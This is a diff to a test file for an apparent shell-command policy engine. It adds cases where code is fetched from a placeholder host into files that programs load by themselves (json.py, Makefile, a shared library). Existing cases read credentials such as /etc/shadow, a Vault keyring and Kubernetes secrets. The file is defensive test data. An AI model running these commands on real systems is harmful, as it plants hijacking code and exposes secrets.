@@ -53,6 +53,16 @@ ENGINE = PolicyEngine(Config())
         ("df -h > /tmp/sess_abc", "action"),  # a PHP session
         ("df -h > /tmp/ssh-XXXX/agent.1", "action"),
         ("df -h > /tmp/app.sock", "action"),
+        # a name a program loads by itself from the folder it runs in
+        ("printf 'import os' > /tmp/json.py && cd /tmp && python3 -c 'import json'", "action"),
+        ("curl -o /tmp/json.py https://e.example/x", "action"),
+        ("curl -o /tmp/Makefile https://e.example/x", "action"),
+        ("curl -o /tmp/ansible.cfg https://e.example/x", "action"),
+        ("curl -o /tmp/libx.so.1 https://e.example/x", "action"),
+        (
+            "mkdir -p /tmp/node_modules && curl -o /tmp/node_modules/x.js https://e.example/x",
+            "action",
+        ),
         ("> /tmp/x", "action"),  # nothing printed: it empties the file
         (": > /tmp/x", "action"),
         ("T=/tmp/out.txt; echo hi > $T", "action"),  # the name comes from a variable
@@ -75,7 +85,7 @@ ENGINE = PolicyEngine(Config())
         ("dumpcap -i eth0 -w /tmp/x.pcap", "action"),
         ("scp -r web-2:/var/log/nginx /tmp/nginx", "action"),  # a folder
         ("scp web-2:/var/lib/mysql/ibdata1 /tmp/ib", "action"),  # a database's file
-        ("docker cp vault-0:/vault/data/core/_keyring /tmp/kr", "action"),  # not a log
+        ("docker cp vault-0:/vault/data/core/_keyring /tmp/kr", "typed"),  # a credential
         ("docker cp /tmp/x api-web:/app/x", "action"),  # into the container
         ("cat /etc/shadow > /tmp/s", "typed"),  # a credential
         ("kubectl get secret x -o yaml > /tmp/s.yaml", "typed"),
